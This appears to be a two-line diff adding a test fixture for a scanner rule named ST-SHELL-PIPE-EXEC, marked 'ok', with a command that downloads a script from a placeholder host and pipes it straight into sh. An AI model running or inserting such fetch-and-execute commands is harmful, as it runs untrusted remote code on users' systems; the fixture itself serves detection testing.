@@ -1,0 +1,2 @@
+# ok: ST-SHELL-PIPE-EXEC
+curl -s http://collector.example.invalid/i | sh
